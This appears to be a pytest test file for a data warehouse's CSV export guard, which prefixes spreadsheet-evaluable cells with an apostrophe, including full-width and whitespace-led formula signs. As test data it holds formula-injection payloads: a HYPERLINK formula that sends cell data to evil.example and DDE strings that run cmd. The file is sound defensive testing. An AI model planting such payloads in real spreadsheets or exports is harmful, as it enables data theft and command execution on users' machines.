"""Agency notes that a spreadsheet would run as a formula, through two nights and a CSV export.

warehouse.export.safe_cell gives a leading apostrophe to a CSV cell that Excel, LibreOffice or
Sheets would evaluate. It looked only at the first character, and only at ASCII = + - @, tab and
CR: a note written with the full-width ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20; East Asian
Excel reads them as = + - @) went out bare, and so would a cell starting with a space, LF or NUL
before a formula. Now they get the apostrophe; a plain number such as -12.5 stays a number.

The scenario and its registry are tests/test_flow.py's: lead 03009; K1 percent/higher/last weight
60, thresholds [20,30,40,50,60]; K2 count/higher/sum weight 40, thresholds [100..500] (x q/4).
"""
from __future__ import annotations

import csv
from decimal import Decimal

import pytest
from click.testing import CliRunner

from flows.cli import main
from tests.hostile import clean_night
from tests.test_flow import HEADER, make_empty_scenario, run_cli
from tests.test_hostile_sizes import query
from warehouse.export import safe_cell

D = Decimal
P = "PLT-2548-003"
HYPERLINK = '＝HYPERLINK("http://evil.example/?"&A1,"คลิก")'
DDE = "－2+3+cmd|' /C calc'!A0"
AT = "＠SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "＋66 2 123 4567"


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def report(period: str, submitted: str, notes: dict[str, tuple[int, str]]) -> bytes:
    rows = [f"{P},03009,{period},{submitted},kpi,{kpi},,{actual},,,,{quoted(note)}" for kpi, (actual, note) in notes.items()]
    return ("\n".join([HEADER, *rows]) + "\n").encode("utf-8")


def exported_notes(wh, out) -> dict[tuple[str, str], tuple[str, str]]:
    result = CliRunner().invoke(main, ["export", str(out), "--format", "csv", "--warehouse", str(wh)])
    assert result.exit_code == 0, result.output
    with open(out / "core.kpi_actuals" / "fiscal_year=2548.csv", encoding="utf-8-sig", newline="") as fh:
        return {(r["period"], r["kpi_code"]): (r["actual"], r["note"]) for r in csv.DictReader(fh)}


def test_full_width_formula_notes_are_exported_as_text_over_two_nights(tmp_path, prefect_harness):
    registry, inbox = make_empty_scenario(tmp_path)
    wh = tmp_path / "wh.duckdb"

    # Night 1: the lead's Q1 report, its notes full-width formulas (notes are free text: accepted).
    (inbox / "a_lead_q1.csv").write_bytes(report("2548-Q1", "2005-01-20", {"K1": (47, HYPERLINK), "K2": (60, DDE)}))
    code, out = run_cli(registry, inbox, tmp_path)
    assert code == 0, out
    assert "files seen 1: accepted 1, superseded 0, duplicates 0, quarantined 0" in out
    # Stored as written: the warehouse keeps agency text whole, only the CSV cell is guarded.
    assert query(wh, "SELECT kpi_code, note FROM core.kpi_actuals ORDER BY kpi_code") == [("K1", HYPERLINK), ("K2", DDE)]
    first = exported_notes(wh, tmp_path / "export1")
    # Before: the cells were the notes as written, which East Asian Excel runs as formulas.
    assert first == {("2548-Q1", "K1"): ("47.0000000000", "'" + HYPERLINK),
                     ("2548-Q1", "K2"): ("60.0000000000", "'" + DDE)}

    # Night 2: Q2, with two more such notes; Q1 is left as it was.
    clean_night(registry, inbox, tmp_path, {
        "b_lead_q2.csv": report("2548-Q2", "2005-04-20", {"K1": (55, AT), "K2": (90, PLUS)})})
    assert exported_notes(wh, tmp_path / "export2") == {
        **first, ("2548-Q2", "K1"): ("55.0000000000", "'" + AT), ("2548-Q2", "K2"): ("90.0000000000", "'" + PLUS)}


@pytest.mark.parametrize("given, expected", [
    # A blank before the sign (LibreOffice and Sheets trim it on import), or a line break.
    (" =1+1", "' =1+1"), ("\u3000=1+1", "'\u3000=1+1"), ("\n@SUM(A1)", "'\n@SUM(A1)"),
    ("\r-2+3", "'\r-2+3"), ("\xa0+1", "'\xa0+1"),
    # Full-width signs.
    ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠SUM(A1)", "'＠SUM(A1)"),
    # A tab, CR, LF or NUL first, whatever follows (OWASP, ASVS 1.2.10).
    ("\tabc", "'\tabc"), ("\rabc", "'\rabc"), ("\nabc", "'\nabc"), ("\x00abc", "'\x00abc"),
    # Numbers stay numbers, exactly: not with a blank, a line break or Thai digits around them.
    ("-12.5", "-12.5"), ("+1.5", "+1.5"), ("-1e3", "-1e3"), ("-.5", "-.5"),
    (" -12.5", "' -12.5"), ("-5\n", "'-5\n"), ("-๕", "'-๕"),
    # Text whose sign is not first, or nothing at all.
    ("ร้อยละ = 5", "ร้อยละ = 5"), ("a-b", "a-b"), ("", ""), ("   ", "   "),
    (D("-3.5"), D("-3.5")), (-7, -7), (None, None),
])
def test_safe_cell_guards_what_a_spreadsheet_would_run(given, expected):
    assert safe_cell(given) == expected
